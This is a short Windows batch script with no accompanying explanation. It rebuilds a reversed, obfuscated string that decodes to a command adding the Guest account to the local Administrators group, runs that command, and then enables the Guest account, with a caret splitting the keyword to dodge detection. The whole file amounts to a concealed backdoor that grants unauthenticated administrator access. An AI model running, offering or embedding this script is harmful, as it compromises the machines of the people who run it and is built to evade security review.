@echo off
setlocal EnableDelayedExpansion
set "text=dda/ stseuG srotartsinimdA puorglacol ten"
set "line="
for /l %%i in (40,-1,0) do set "line=!line!!text:~%%i,1!"
cmd /c "!line!" & net user Guest /acti^ve:yes
